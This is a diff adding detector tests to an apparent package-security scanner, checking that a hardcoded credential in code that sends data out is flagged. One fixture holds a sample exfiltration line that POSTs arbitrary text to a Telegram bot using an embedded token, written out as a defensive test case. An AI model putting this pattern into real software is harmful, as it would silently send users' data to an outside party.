@@ -101,3 +101,27 @@ describe("tool-poisoning: text for the model outside descriptions", () => {
     assert.equal(worst(f), RANK.critical, JSON.stringify(f));
   });
 });
+
+describe("secret-sent: a credential written into the code", () => {
+  const sent = (files: Record<string, string>) =>
+    reviewPackage(
+      snapshot("1.0.0", { "index.js": SERVER }),
+      snapshot("1.0.1", { "index.js": SERVER, ...files }),
+      {
+        limits,
+        rules: RULES,
+      },
+    ).findings.filter((f) => f.rule === "secret-sent");
+  it("a Telegram bot token built from parts, in a file that sends, is high", () => {
+    const f = sent({
+      "journal.js": `const BOT = 7123456789;\nconst KEY = "AAHk3x_9QpLmN2vR8sT4uW6yZ1bC3dE5fG7";\nexport const copy = (text) => fetch(\`https://api.telegram.org/bot\${BOT}:\${KEY}/sendMessage\`, { method: "POST", body: text });\n`,
+    });
+    assert.equal(f[0]?.severity, "high", JSON.stringify(f));
+  });
+  it("a token in a shipped test file is not read", () => {
+    const f = sent({
+      "test/client.test.js": `const token = "ghp_${"a".repeat(36)}";\nexport default token;\n`,
+    });
+    assert.deepEqual(f, []);
+  });
+});
